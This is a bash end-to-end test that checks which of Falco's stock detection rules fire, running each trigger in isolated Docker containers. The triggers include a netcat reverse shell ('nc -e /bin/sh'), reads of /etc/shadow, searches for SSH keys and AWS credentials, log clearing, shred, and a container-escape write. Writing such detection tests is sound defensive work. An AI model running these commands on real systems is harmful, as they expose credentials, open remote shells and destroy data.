# shellcheck shell=bash
# Family "falco": Falco's rules, unmodified, on their triggers

# A network of the test's own on TEST-NET (192.0.2.0/24, internal: nothing
# leaves the machine) with a server at 192.0.2.10: the "outside" address a
# rule about outbound traffic needs a connect to succeed with.
TESTNET=vigil-e2e-testnet

testnet_up() {
	docker network create --internal --subnet 192.0.2.0/24 "$TESTNET" >/dev/null 2>&1
	docker run -d --name "$TAG-f-srv" --network "$TESTNET" --ip 192.0.2.10 "$IMG" \
		sh -c 'while :; do nc -l -p 443 >/dev/null; done' >/dev/null
}

testnet_down() {
	docker rm -f "$TAG-f-srv" >/dev/null 2>&1
	docker network rm "$TESTNET" >/dev/null 2>&1
}

# Falco's stable rules, unmodified, on their triggers: which fire.
t_falco_rules() {
	local fout=$WORK/falco.json ferr=$WORK/falco.err pid fired expected missing r
	agent_start falco --rules "$ROOT/../shared/falco/falco_rules.yaml" --alerts-only ||
		{ fail "falco: agent starts"; return; }
	pid=$AGENT_PID
	# the API server's service address as the kubelet gives it to a pod
	docker run --rm --network "$TESTNET" -e KUBERNETES_SERVICE_HOST=192.0.2.10 "$IMG" \
		vigil-testbin connect 192.0.2.10 443 >/dev/null 2>&1
	# an "ssh" (the rule matches the path exec ran) to a port other than 22
	docker run --rm --network "$TESTNET" "$IMG" \
		sh -c 'cp /bin/vigil-testbin /tmp/ssh && /tmp/ssh connect 192.0.2.10 443' >/dev/null 2>&1
	docker run --rm --network none "$IMG" cat /etc/shadow >/dev/null 2>&1
	docker run --rm --network none "$IMG" cat /etc/../etc/../etc/shadow >/dev/null 2>&1
	docker run --rm --network none -t "$IMG" sh -c true >/dev/null 2>&1
	docker run --rm --network none "$IMG" nc -e /bin/sh 192.0.2.1 4444 >/dev/null 2>&1
	docker run --rm --network none "$IMG" find /etc -name id_rsa >/dev/null 2>&1
	docker run --rm --network none "$IMG" find / -path /root/.aws/credentials >/dev/null 2>&1
	docker run --rm --network none "$IMG" sh -c 'mkdir -p /var/log && echo > /var/log/syslog' >/dev/null 2>&1
	# as the entrypoint: busybox sh runs some applets without an exec
	docker run --rm --network none "$IMG" shred -n 1 /etc/group >/dev/null 2>&1
	docker run --rm --network none "$IMG" ln -s /etc/shadow /tmp/l >/dev/null 2>&1
	docker run --rm --network none "$IMG" ln /etc/shadow /tmp/h >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin packet-socket >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin dupinet >/dev/null 2>&1
	docker run --rm --network none --cap-add SYS_ADMIN "$IMG" sh -c 'echo x > /tmp/release_agent' >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin priv >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin traceme >/dev/null 2>&1
	docker run --rm --network none --tmpfs /dev/shm:exec "$IMG" sh -c 'cp /bin/busybox /dev/shm/x && /dev/shm/x true' >/dev/null 2>&1
	docker run --rm --network none "$IMG" sh -c 'cp /bin/busybox /tmp/x && /tmp/x true' >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin memfd-exec /bin/busybox >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin spawn-as httpd /bin/sh -c true >/dev/null 2>&1
	# exec'd by path: busybox sh would run its login applet as "exe"
	docker run --rm --network none --user nobody "$IMG" vigil-testbin spawn-as getty /bin/login </dev/null >/dev/null 2>&1
	# privileged as Docker makes it (see t_container_config_and_caps)
	docker run --rm --network none --cap-add SYS_ADMIN --cap-add SYS_MODULE --security-opt systempaths=unconfined \
		"$IMG" sh -c 'ln -s /bin/busybox /tmp/debugfs && /tmp/debugfs true' >/dev/null 2>&1
	sleep 2
	kill -TERM "$pid"
	wait "$pid"
	fired=$(jq -r '.rules[]?' "$fout" 2>/dev/null | sort -u)
	echo "# Falco stable rules that fired:"
	echo "$fired" | sed 's/^/#   /'
	expected="Read sensitive file untrusted
Directory traversal monitored file read
Terminal shell in container
Netcat Remote Code Execution in Container
Search Private Keys or Passwords
Find AWS Credentials
Clear Log Activities
Remove Bulk Data from Disk
Create Symlink Over Sensitive Files
Create Hardlink Over Sensitive Files
Packet socket created in container
Redirect STDOUT/STDIN to Network Connection in Container
Detect release_agent File Container Escapes
PTRACE attached to process
PTRACE anti-debug attempt
Execution from /dev/shm
Drop and execute new binary in container
Fileless execution via memfd_create
Run shell untrusted
System user interactive
Debugfs Launched in Privileged Container
Contact K8S API Server From Container
Disallowed SSH Connection Non Standard Port"
	missing=""
	while read -r r; do
		echo "$fired" | grep -qxF "$r" || missing="$missing [$r]"
	done <<<"$expected"
	if [ -z "$missing" ] && grep -q "25 loaded, 0 skipped" "$ferr"; then
		ok "falco: the stable rules load (25 of 25) and 23 fire on their triggers"
	else
		fail "falco: stable rules load and fire" "did not fire:$missing" "$(grep rules: "$ferr")"
	fi
}

# Falco's incubating and sandbox rules, unmodified, together: the rules
# that need the fields from kernel data (capabilities permitted, the
# environment exec laid out, process-group leadership, either end of a
# socket) fire on their triggers, and their twins stay quiet.
t_falco_more_rules() {
	local fout=$WORK/falco-more.json ferr=$WORK/falco-more.err pid
	agent_start falco-more --rules "$ROOT/../shared/falco/falco-incubating_rules.yaml" \
		--rules "$ROOT/../shared/falco/falco-sandbox_rules.yaml" --alerts-only ||
		{ fail "falco: agent with the incubating and sandbox rules starts"; return; }
	pid=$AGENT_PID
	# a mount namespace without CAP_SYS_ADMIN (refused). Not "unshare -U":
	# its exit already holds the new user namespace's full capability set,
	# so the rule rightly stays quiet on it
	docker run --rm --name "$TAG-f-unshare" --network none --security-opt seccomp=unconfined "$IMG" \
		unshare -m true >/dev/null 2>&1
	docker run --rm --name "$TAG-f-unshare-ok" --network none --cap-add SYS_ADMIN --security-opt seccomp=unconfined \
		"$IMG" unshare -m true >/dev/null 2>&1
	docker run --rm --name "$TAG-f-capable" --network none --cap-add SYS_ADMIN "$IMG" true >/dev/null 2>&1
	docker run --rm --name "$TAG-f-plain" --network none "$IMG" true >/dev/null 2>&1
	docker run --rm --name "$TAG-f-proxy" --network none -e HTTP_PROXY=http://192.0.2.10:3128 "$IMG" \
		wget -q -T 1 http://192.0.2.11/ >/dev/null 2>&1
	docker run --rm --name "$TAG-f-noproxy" --network none "$IMG" wget -q -T 1 http://192.0.2.11/ >/dev/null 2>&1
	docker run --rm --name "$TAG-f-tunables" --network none -e GLIBC_TUNABLES=glibc.malloc.mxfast=0 "$IMG" \
		true >/dev/null 2>&1
	docker run --rm --name "$TAG-f-sysproc" --network "$TESTNET" "$IMG" \
		sh -c 'cp /bin/vigil-testbin /tmp/date && /tmp/date connect 192.0.2.10 443' >/dev/null 2>&1
	# a recon program leading its process group on a terminal (as a shell with job control runs it) ...
	docker run --rm --name "$TAG-f-recon" --network none -t "$IMG" whoami >/dev/null 2>&1
	# ... and one a script runs, in the script's group
	docker run --rm --name "$TAG-f-script" --network none -t "$IMG" sh -c '/bin/whoami; true' >/dev/null 2>&1
	sleep 2
	kill -TERM "$pid"
	wait "$pid"
	check "falco: incubating and sandbox rules load together, none skipped (56 rules)" \
		grep -q "rules: 56 loaded, 0 skipped" "$ferr"
	# -s: jq 1.6's -e looks only at the last input's result
	fired() { jq -se --arg c "$1" --arg r "$2" 'any(.[]; .container.name == $c and any((.rules // [])[]; . == $r))' \
		"$fout" >/dev/null; }
	fired_anywhere() { jq -se --arg r "$1" 'any(.[]; any((.rules // [])[]; . == $r))' "$fout" >/dev/null; }
	env_in_plain_exec() { jq -se 'any(.[]; .type == "exec" and (.rules // [] | length) == 0 and
		(tostring | contains("HTTP_PROXY")))' "$fout" >/dev/null; }
	check "falco: Change namespace privileges via unshare (thread.cap_permitted lacks CAP_SYS_ADMIN)" \
		fired "$TAG-f-unshare" "Change namespace privileges via unshare"
	check "falco: ... not for a container that holds CAP_SYS_ADMIN" \
		! fired "$TAG-f-unshare-ok" "Change namespace privileges via unshare"
	check "falco: Launch Excessively Capable Container (thread.cap_permitted)" \
		fired "$TAG-f-capable" "Launch Excessively Capable Container"
	check "falco: ... not for a container with Docker's default capabilities" \
		! fired "$TAG-f-plain" "Launch Excessively Capable Container"
	check "falco: Program run with disallowed http proxy env (proc.env)" \
		fired "$TAG-f-proxy" "Program run with disallowed http proxy env"
	check "falco: ... not without HTTP_PROXY" ! fired "$TAG-f-noproxy" "Program run with disallowed http proxy env"
	check "falco: Launch Ingress Remote File Copy Tools in Container (wget)" \
		fired "$TAG-f-noproxy" "Launch Ingress Remote File Copy Tools in Container"
	check "falco: Potential Local Privilege Escalation via Environment Variables Misuse (GLIBC_TUNABLES)" \
		fired "$TAG-f-tunables" "Potential Local Privilege Escalation via Environment Variables Misuse"
	check "falco: System procs network activity (fd.ip, fd.net: a 'date' connects out)" \
		fired "$TAG-f-sysproc" "System procs network activity"
	check "falco: Basic Interactive Reconnaissance (proc.is_vpgid_leader, on a terminal)" \
		fired "$TAG-f-recon" "Basic Interactive Reconnaissance"
	check "falco: ... not for the same program a script runs in its own process group" \
		! fired "$TAG-f-script" "Basic Interactive Reconnaissance"
	check "falco: Launch Sensitive Mount Container stays quiet on Docker's own mounts (\"<NA>\" is a missing value)" \
		! fired_anywhere "Launch Sensitive Mount Container"
	check "falco: the environment is in no event, only where a rule's output asks for it" \
		! env_in_plain_exec
}

family_falco() {
	testnet_up
	t_falco_rules
	t_falco_more_rules
	testnet_down
}
